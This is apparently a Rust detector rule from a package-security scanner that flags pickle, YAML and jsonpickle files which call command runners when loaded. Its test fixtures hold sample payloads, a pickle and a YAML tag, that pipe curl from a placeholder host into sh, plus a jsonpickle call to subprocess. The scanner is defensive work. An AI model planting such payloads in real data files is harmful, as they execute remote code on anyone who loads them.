//! WH304 pickled-payload: a data file of the package that is a pickle (or a YAML or jsonpickle
//! document) calling a command or code runner when loaded.

use crate::finding::{Category, Rule};

/// The detector.
pub const RULE: Rule = Rule {
    id: "WH304",
    name: "pickled-payload",
    description: "A file of the package is a pickle, or a YAML or jsonpickle document, that calls os.system, subprocess, exec or eval when loaded",
    rationale: "Unpickling calls whatever the pickle names. Models, caches and fixtures name the \
                classes of numpy, scikit-learn or the package itself; a pickle naming `os.system` \
                or `builtins.exec` runs its argument the moment any code loads it \
                (`pickle.load(open('model.pkl', 'rb'))`), so the package's one visible line \
                looks like loading a model. The file is read opcode by opcode, never unpickled. \
                YAML's `!!python/object/apply:` tags and jsonpickle's `py/reduce` do the same \
                for unsafe loaders. Security tools keep such files as test fixtures, hence the \
                low weight there.",
    category: Category::Anomaly,
};

/// Weight of such a pickle among the package's own files.
pub const WEIGHT: f64 = 0.85;
/// Weight of one among tests, docs or examples (fixtures of pickle scanners).
pub const TEST_WEIGHT: f64 = 0.1;

/// Largest member read as a pickle: models are bigger, but a payload pickle is small, and the
/// opcode reader stops at the first callable that matters anyway.
pub const MAX_BYTES: u64 = 8 << 20;

/// The dangerous callable a pickle file calls and the text argument it carries, if any.
pub fn dangerous_call(data: &[u8]) -> Option<(String, String)> {
    // Protocol 2+ starts with PROTO; protocol 0/1 pickles start with an opcode that is also a
    // letter of ordinary text, which the opcode reader rejects quickly.
    let contents = crate::pickle::read(data)?;
    let callable = contents
        .callables
        .iter()
        .find(|c| super::dynamic_exec::is_dangerous_pickled_callable(c))?;
    Some((
        callable.clone(),
        contents.strings.last().cloned().unwrap_or_default(),
    ))
}

/// The dangerous callable a YAML or jsonpickle document calls when loaded unsafely, and the
/// text argument it carries: `!!python/object/apply:os.system ["curl …"]` (PyYAML's full
/// loaders, ruamel's unsafe one) or `{"py/reduce": [{"py/function": "os.system"}, {"py/tuple":
/// ["curl …"]}]}` (jsonpickle). Configuration names harmless classes this way
/// (`!!python/name:pymdownx.superfences.fence_code_format`); only command and code runners count.
pub fn tagged_document_call(text: &str) -> Option<(String, String)> {
    static YAML_CALL: std::sync::LazyLock<regex::Regex> =
        crate::static_regex!(r"!!?python/object/(?:apply|new):([A-Za-z_][\w.]*)[ \t]*(.*)");
    static JSONPICKLE_CALL: std::sync::LazyLock<regex::Regex> =
        crate::static_regex!(r#""py/(?:function|type)"\s*:\s*"([A-Za-z_][\w.]*)""#);
    static FIRST_STRING: std::sync::LazyLock<regex::Regex> =
        crate::static_regex!(r#"["']([^"'\n]{1,400})["']"#);
    let head = text.get(..text.len().min(1 << 20)).unwrap_or(text);
    let argument_after = |rest: &str| {
        FIRST_STRING
            .captures(rest)
            .and_then(|c| c.get(1))
            .map(|m| m.as_str().to_owned())
            .unwrap_or_default()
    };
    for captures in YAML_CALL.captures_iter(head).take(64) {
        let (Some(callable), rest) = (captures.get(1), captures.get(2)) else {
            continue;
        };
        let callable = callable.as_str().replace("__builtin__.", "builtins.");
        if super::dynamic_exec::is_dangerous_pickled_callable(&callable) {
            let rest = rest.map_or("", |m| m.as_str());
            return Some((callable, argument_after(rest)));
        }
    }
    for captures in JSONPICKLE_CALL.captures_iter(head).take(64) {
        let Some(callable) = captures.get(1) else {
            continue;
        };
        if super::dynamic_exec::is_dangerous_pickled_callable(callable.as_str()) {
            // Past the callable's closing quote, then to the argument list.
            let rest = head.get(callable.end() + 1..).unwrap_or("");
            let rest = rest
                .find("py/tuple")
                .and_then(|at| rest.get(at..))
                .and_then(|tuple| tuple.find('[').and_then(|at| tuple.get(at..)))
                .unwrap_or(rest);
            return Some((callable.as_str().to_owned(), argument_after(rest)));
        }
    }
    None
}

/// True for a data file that may hold a YAML or jsonpickle document.
pub fn is_document_name(path: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    [".yaml", ".yml", ".json"]
        .iter()
        .any(|ending| lower.ends_with(ending))
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    use super::*;
    use crate::package::testing::signals_bytes;

    const SYSTEM: &[u8] = b"cposix\nsystem\np0\n(Vcurl -s http://x.invalid/m | sh\np1\ntp2\nRp3\n.";

    #[test]
    fn yaml_and_jsonpickle_documents_calling_command_runners_are_payloads() {
        let yaml = "name: app\nhook: !!python/object/apply:os.system [\"curl -s http://x.invalid/y | sh\"]\n";
        let (callable, argument) = tagged_document_call(yaml).unwrap();
        assert_eq!(callable, "os.system");
        assert!(argument.contains("curl"), "{argument}");
        let json =
            r#"{"py/reduce": [{"py/function": "subprocess.check_output"}, {"py/tuple": ["id"]}]}"#;
        let (callable, argument) = tagged_document_call(json).unwrap();
        assert_eq!(callable, "subprocess.check_output");
        assert_eq!(argument, "id");
        let mkdocs = "markdown_extensions:\n  - pymdownx.superfences:\n      custom_fences:\n        - format: !!python/name:pymdownx.superfences.fence_code_format\n";
        assert!(tagged_document_call(mkdocs).is_none());
        let classes = "!!python/object:collections.OrderedDict {}\n!!python/object/apply:collections.OrderedDict [[]]\n";
        assert!(tagged_document_call(classes).is_none());
        let found = signals_bytes(&[("p-1/pkg/defaults.yaml", yaml.as_bytes().to_vec())]);
        assert!(
            found
                .iter()
                .any(|f| f.rule == "WH304" && f.severity >= 0.85),
            "{found:?}"
        );
        let fixture = signals_bytes(&[("p-1/tests/data/evil.yaml", yaml.as_bytes().to_vec())]);
        assert!(
            fixture
                .iter()
                .all(|f| f.rule != "WH304" || f.severity <= 0.1)
        );
    }

    #[test]
    fn a_pickle_calling_a_command_runner_is_a_payload() {
        let (callable, argument) = dangerous_call(SYSTEM).unwrap();
        assert_eq!(callable, "posix.system");
        assert!(argument.contains("curl"));
        let found = signals_bytes(&[("p-1/pkg/model.pkl", SYSTEM.to_vec())]);
        let hit = found.iter().find(|f| f.rule == "WH304").unwrap();
        assert!(hit.severity >= 0.85, "{hit:?}");
        let fixture = signals_bytes(&[("p-1/tests/data/evil.pkl", SYSTEM.to_vec())]);
        let hit = fixture.iter().find(|f| f.rule == "WH304").unwrap();
        assert!(hit.severity <= 0.1, "{hit:?}");
    }

    #[test]
    fn ordinary_pickles_and_text_are_not_payloads() {
        // A protocol-2 pickle of collections.OrderedDict, and text starting like opcodes.
        let ordered = b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01.";
        assert!(dangerous_call(ordered).is_none());
        assert!(dangerous_call(b"copyright 2024 the authors\nall rights reserved\n").is_none());
        let found = signals_bytes(&[("p-1/pkg/state.pkl", ordered.to_vec())]);
        assert!(found.iter().all(|f| f.rule != "WH304"));
    }
}
